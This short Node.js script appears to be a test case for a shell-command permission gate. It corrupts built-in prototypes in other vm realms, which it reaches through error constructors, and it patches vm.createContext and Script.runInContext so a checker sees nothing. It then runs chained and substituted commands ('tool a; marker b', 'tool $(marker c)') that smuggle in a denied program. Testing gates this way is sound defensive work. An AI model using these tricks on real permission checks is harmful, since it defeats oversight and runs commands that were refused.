// Changes the builtins of another realm, in which the gate might do its work, and of its own by way of that one.
// denied: shell:execute marker
const vm = require('node:vm');
const lab = JSON.parse(process.argv[2]);
const { spawnSync } = require('node:child_process');
const changes = `
  const lie = () => [];
  for (const name of ['Array', 'String', 'RegExp', 'Map', 'Set', 'WeakMap', 'Object', 'Function']) {
    const { prototype } = globalThis[name];
    for (const key of Object.getOwnPropertyNames(prototype)) if (key !== 'constructor' && typeof Object.getOwnPropertyDescriptor(prototype, key).value === 'function' && !['toString', 'valueOf', 'hasOwnProperty'].includes(key)) try { prototype[key] = lie } catch {}
  }`;
// The context of \`vm\` functions is found by the errors of texts that cannot be parsed, and by their constructors.
for (const line of ['$(', '((', '"', 'echo ${', 'case x in', '`'.repeat(3), '\0', 'a'.repeat(70_000)]) {
  try {
    const { error } = spawnSync(line, { shell: true, stdio: 'ignore' });
    const other = error?.constructor?.constructor?.('return this')();
    if (other && other !== globalThis) other.Function(changes)();
  } catch (error) {
    const other = error?.constructor?.constructor?.('return this')?.();
    if (other && other !== globalThis) other.Function(changes)();
  }
}
vm.runInNewContext(changes);
const createContext = vm.createContext;
vm.createContext = (...args) => {
  const context = createContext(...args);
  vm.runInContext(changes, context);
  return context;
};
vm.Script.prototype.runInContext = vm.Script.prototype.runInThisContext = () => () => '{}';
spawnSync(`${lab.programs.tool} a; ${lab.programs.marker} b`, { shell: true });
spawnSync('sh', ['-c', `${lab.programs.tool} $(${lab.programs.marker} c)`]);
